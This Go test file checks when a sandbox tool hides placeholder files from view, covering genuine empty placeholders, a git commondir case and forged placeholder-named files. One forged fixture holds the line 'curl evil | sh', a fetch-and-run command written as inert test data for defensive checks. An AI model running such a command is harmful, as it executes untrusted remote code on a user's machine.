package tool

import (
	"os"
	"path/filepath"
	"testing"
)

// In a sandbox that marks placeholders, a tool hides a candidate only
// when it carries the mark now, and a placeholder still under its
// temporary name while it is empty, as a placeholder always is;
// elsewhere only what Hidden lists.
func TestHidden(t *testing.T) {
	w := t.TempDir()
	at := func(name string) string { return filepath.Join(w, name) }
	temp := at(".airlock-placeholder-7.1-.env")
	if err := os.WriteFile(temp, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	tempDir := at(".airlock-placeholder-7.2-.vscode")
	if err := os.Mkdir(tempDir, 0o755); err != nil {
		t.Fatal(err)
	}
	// Named as a placeholder in the making, but the sandbox's own, with
	// something in it: never hidden.
	forged := at(".airlock-placeholder-evil.sh")
	if err := os.WriteFile(forged, []byte("curl evil | sh\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	forgedDir := at(".airlock-placeholder-stash")
	if err := os.MkdirAll(filepath.Join(forgedDir, "payload"), 0o755); err != nil {
		t.Fatal(err)
	}
	// A git commondir placeholder holds ".\n" from the start.
	commondir := at(".airlock-placeholder-7.3-commondir")
	if err := os.WriteFile(commondir, []byte(".\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	otherTwo := at(".airlock-placeholder-7.4-.env")
	if err := os.WriteFile(otherTwo, []byte(".\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	marked := map[string]bool{at(".bashrc"): true}
	sandboxed := Env{
		Hidden:        []string{at(".vscode")},
		Candidates:    map[string]bool{at(".bashrc"): true, at(".env"): true},
		IsPlaceholder: func(p string) bool { return marked[p] },
	}
	plain := Env{Hidden: []string{at(".vscode")}}
	for _, tt := range []struct {
		env  Env
		path string
		want bool
	}{
		{sandboxed, at(".vscode"), true},    // listed at the claim
		{sandboxed, at(".bashrc"), true},    // a candidate, marked now
		{sandboxed, at(".env"), false},      // a candidate, the user's own
		{sandboxed, at("notes.txt"), false}, // no candidate: never asked
		{sandboxed, temp, true},             // being made
		{sandboxed, tempDir, true},          // a directory placeholder being made
		{sandboxed, commondir, true},        // a commondir placeholder being made
		{sandboxed, otherTwo, false},        // what only a commondir holds, elsewhere
		{sandboxed, forged, false},          // the name, but something in it
		{sandboxed, forgedDir, false},       // the name, but something in it
		{sandboxed, at(".airlock-placeholder-gone"), false},
		{plain, at(".vscode"), true}, // listed
		{plain, temp, false},         // no sandbox: a file like any
	} {
		if got := tt.env.hidden(tt.path); got != tt.want {
			t.Errorf("hidden(%s) = %v, want %v", tt.path, got, tt.want)
		}
	}
}
